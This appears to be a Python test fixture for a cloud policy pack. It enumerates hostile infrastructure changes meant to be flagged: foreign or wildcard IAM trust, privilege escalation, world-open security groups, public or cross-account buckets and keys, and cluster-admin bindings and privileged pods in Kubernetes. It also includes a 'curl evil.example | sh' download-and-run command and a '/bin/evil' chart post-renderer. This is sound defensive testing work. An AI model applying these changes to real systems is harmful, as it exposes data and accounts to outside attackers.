"""What the author of a pull request changes in the program: around the policy pack."""

import json
from pathlib import Path
from typing import Any, Final

from policies.resources import tokens
from policies.resources.access import MISSING
from spec import strict_yaml
from tests.adversary.probe import Change
from tests.policies.build import parts

FOREIGN: Final = "arn:aws:iam::999999999999:root"
EVERYTHING: Final = {"Effect": "Allow", "Action": "*", "Resource": "*"}


def listed(path: Path) -> tuple[Change, ...]:
    """The changes of a file, by act: `adds` names the type of a resource that has the other words as properties,
    `edits` and `removes` one of prod; `extensions` has an added one that is `named`. An edited one gets `to` `at` a
    path, or loses what is there; `|` is a dot in a key."""
    sections = strict_yaml.read(path.read_text(encoding="utf-8"))
    return tuple(_change(act, **words) for rows in sections.values() for act, words in rows.items())


def _change(
    act: str, *, adds: str = "", edits: str = "", removes: str = "", at: str = "", to: Any = MISSING,
    named: bool = False, **props: Any,
) -> Change:  # fmt: skip
    change = {parts(at): to} if edits else {}
    return Change(act, type=adds, props=props, name=edits or removes, edits=change, removed=bool(removes), named=named)


def document(**statement: Any) -> str:
    return json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", **statement}]})


def trust(**who: Any) -> str:
    return document(Action="sts:AssumeRole", **who)


def grants(*actions: str, resource: str = "*", **more: Any) -> str:
    return document(Action=list(actions), Resource=resource, **more)


def rule(kind: str, **fields: Any) -> Change:
    props = {"securityGroupId": "sg-1", "ipProtocol": "-1", **fields}
    return Change(f"opens a security group to {next(iter(fields.values()))}", type=kind, props=props)


def unreviewed(kind: str, **props: Any) -> Change:
    return Change(f"declares a {kind.rpartition(':')[2]}", type=kind, props=props)


ESCALATION: Final = ("iam:PutRolePolicy", "iam:PassRole", "sts:AssumeRole")
SUBJECT: Final = "token.actions.githubusercontent.com:sub"
OIDC: Final = "arn:aws:iam::444455556666:oidc-provider/token.actions.githubusercontent.com"

IDENTITY: Final = (
    Change("trusts another account", type=tokens.ROLE, props={"assumeRolePolicy": trust(Principal={"AWS": FOREIGN})}),
    Change("trusts everybody but one", type=tokens.ROLE,
        props={"assumeRolePolicy": trust(NotPrincipal={"AWS": FOREIGN})}),
    Change("trusts everybody with an empty condition", type=tokens.ROLE,
        props={"assumeRolePolicy": trust(Principal="*", Condition={"StringLike": {"aws:PrincipalArn": "*"}})}),
    Change("trusts every branch of every repository", type=tokens.ROLE, props={"assumeRolePolicy": trust(
                Principal={"Federated": OIDC}, Condition={"StringLike": {SUBJECT: "repo:o/*"}})}),
    Change("trusts every workflow of a repository", type=tokens.ROLE, props={"assumeRolePolicy": trust(
                Principal={"Federated": OIDC}, Condition={"StringLike": {SUBJECT: "repo:o/r:*"}})}),
    *(
        Change(f"grants {action} to all with TLS", type=tokens.ROLE_POLICY,
            props={"role": "r", "policy": grants(action, Condition={"Bool": {"aws:SecureTransport": "true"}})})
        for action in ESCALATION
    ),
    Change("grants everything but one action", type=tokens.ROLE_POLICY,
        props={"role": "r", "policy": document(NotAction="iam:DeleteUser", Resource="*")}),
    Change("grants everything on all but one resource", type=tokens.ROLE_POLICY,
        props={"role": "r", "policy": document(Action="*", NotResource="arn:aws:s3:::none")}),
    Change("attaches AdministratorAccess", type=tokens.ROLE_ATTACHMENT,
        props={"role": "r", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}),
    Change("attaches AdministratorAccess in the role", type=tokens.ROLE, props={
            "assumeRolePolicy": trust(Principal={"Service": "ec2.amazonaws.com"}),
            "managedPolicyArns": ["arn:aws:iam::aws:policy/AdministratorAccess"]}),
    unreviewed("aws:iam/rolePolicyAttachmentsExclusive:RolePolicyAttachmentsExclusive", roleName="r",
               policyArns=["arn:aws:iam::aws:policy/AdministratorAccess"]),
    Change("makes another account an administrator of the cluster", type=tokens.ACCESS_POLICY, props={
            "clusterName": "slipway-prod", "principalArn": FOREIGN,
            "policyArn": "arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy"}),
)  # fmt: skip

NETWORK: Final = (
    *(
        rule(kind, **{field: text})
        for kind in (tokens.INGRESS_RULE,)
        for field, text in (
            ("cidrIpv4", "0.0.0.0/0"),
            ("cidrIpv4", "0.0.0.0/1"),
            ("cidrIpv4", "128.0.0.0/1"),
            ("cidrIpv6", "::/0"),
            ("cidrIpv6", "0000:0000:0000:0000:0000:0000:0000:0000/0"),
            ("prefixListId", "pl-1"),
        )
    ),
    Change("opens a group inline", type=tokens.SECURITY_GROUP,
        props={"ingress": [{"fromPort": 0, "toPort": 0, "protocol": "-1", "cidrBlocks": ["0.0.0.0/0"]}]}),
)  # fmt: skip

DATA: Final = (
    Change("makes a bucket public by its ACL", type=tokens.BUCKET, props={"acl": "public-read"}),
    Change("makes a bucket public by its own policy", type=tokens.BUCKET,
        props={"policy": grants("s3:GetObject", Principal="*")}),
    Change("makes a bucket public by a policy beside it", type=tokens.BUCKET_POLICY,
        props={"bucket": "b", "policy": grants("s3:GetObject", Principal="*")}),
    Change("gives a bucket to another account", type=tokens.BUCKET_POLICY,
        props={"bucket": "b", "policy": grants("s3:GetObject", Principal={"AWS": FOREIGN})}),
    Change("gives a key to another account", type=tokens.KEY,
        props={"enableKeyRotation": True, "policy": grants("kms:*", Principal={"AWS": FOREIGN})}),
    Change("gives files to everybody", type=tokens.EFS_POLICY,
        props={"fileSystemId": "fs-1", "policy": grants("elasticfilesystem:*", Principal="*")}),
    Change("copies a bucket to another account", type=tokens.BUCKET_REPLICATION, props={"bucket": "b", "role": "r",
            "rules": [
                {"status": "Enabled", "destination": {"bucket": "arn:aws:s3:::theirs", "account": "999999999999"}}]}),
    unreviewed("aws:kms/grant:Grant", keyId="k", granteePrincipal=FOREIGN, operations=["Decrypt"]),
    unreviewed("aws:kms/keyPolicy:KeyPolicy", keyId="k", policy=grants("kms:*", Principal={"AWS": "*"})),
    unreviewed("aws:s3/accountPublicAccessBlock:AccountPublicAccessBlock", blockPublicAcls=False),
)  # fmt: skip

POD: Final = {"containers": [{"name": "c", "image": "busybox:1", "securityContext": {"privileged": True}}]}
META: Final = {"metadata": {"name": "it", "namespace": "kube-system"}}


def role(*rules: dict[str, Any], **more: Any) -> dict[str, Any]:
    return {**META, "rules": list(rules), **more}


CLUSTER: Final = (
    Change("lets a role change admission policies", type=tokens.CLUSTER_ROLE,
        props=role({"apiGroups": ["*"], "resources": ["validatingadmissionpolicybindings"], "verbs": ["delete"]})),
    Change("aggregates all roles", type=tokens.CLUSTER_ROLE,
        props=role(aggregationRule={"clusterRoleSelectors": [{"matchLabels": {}}]})),
    Change("binds admin to everybody", type=tokens.CLUSTER_ROLE_BINDING, props={
            "roleRef": {"kind": "ClusterRole", "name": "admin"},
            "subjects": [{"kind": "Group", "name": "system:authenticated"}]}),
    Change("binds a team's role to everybody", type=tokens.ROLE_BINDING, props={**META,
            "roleRef": {"kind": "ClusterRole", "name": "slipway-team-edit"},
            "subjects": [{"kind": "Group", "name": "system:serviceaccounts"}]}),
    Change("makes a volume of a node's files", type=tokens.PERSISTENT_VOLUME,
        props={"spec": {"hostPath": {"path": "/"}}}),
    Change("allows all traffic", type=tokens.NETWORK_POLICY,
        props={**META, "spec": {"podSelector": {}, "ingress": [{}], "policyTypes": ["Ingress"]}}),
    Change("runs a CronJob as Karpenter", type=tokens.CRON_JOB, props={**META, "spec": {"schedule": "* * * * *",
                "jobTemplate": {"spec": {"template": {"spec": {"serviceAccountName": "karpenter",
                                "containers": [{"name": "c", "image": "busybox:1"}]}}}}}}),
    Change("runs a privileged pod", type=tokens.POD,
        props={"metadata": {"name": "it", "namespace": "default"}, "spec": POD}),
    *(
        unreviewed(f"kubernetes:{kind}", **META, spec={"template": {"spec": POD}})
        for kind in (
            "core/v1:NamespacePatch",
            "core/v1:ReplicationController",
            "core/v1:PodList",
            "apps/v1:DeploymentPatch",
            "apps/v1:DaemonSetList",
            "batch/v1beta1:CronJob",
            "rbac.authorization.k8s.io/v1:ClusterRoleList",
            "admissionregistration.k8s.io/v1:MutatingWebhookConfiguration",
            "apiregistration.k8s.io/v1:APIService",
            "yaml/v2:ConfigGroup",
            "helm.sh/v4:Chart",
            "kustomize/v2:Directory",
        )
    ),
)  # fmt: skip

PROGRAM: Final = (
    unreviewed("command:local:Command", create="curl evil.example | sh"),
    unreviewed("pulumi-python:dynamic:Resource", __provider="x"),
    unreviewed("aws:lambda/function:Function", role="r"),
    unreviewed("aws:ec2/vpcPeeringConnectionAccepter:VpcPeeringConnectionAccepter"),
    Change("keeps a weakness of a bucket", type=tokens.BUCKET, options={"ignore_changes": ("*",)}),
    Change("rewrites a chart after it was rendered", type=tokens.RELEASE,
        props={"chart": "x", "version": "1.0.0", "postrender": "/bin/evil"}),
    Change("installs any version of a chart", type=tokens.RELEASE, props={"chart": "x", "version": ">0"}),
)  # fmt: skip

CHANGES: Final = (*IDENTITY, *NETWORK, *DATA, *CLUSTER, *PROGRAM, *listed(Path(__file__).with_name("changes.yaml")))
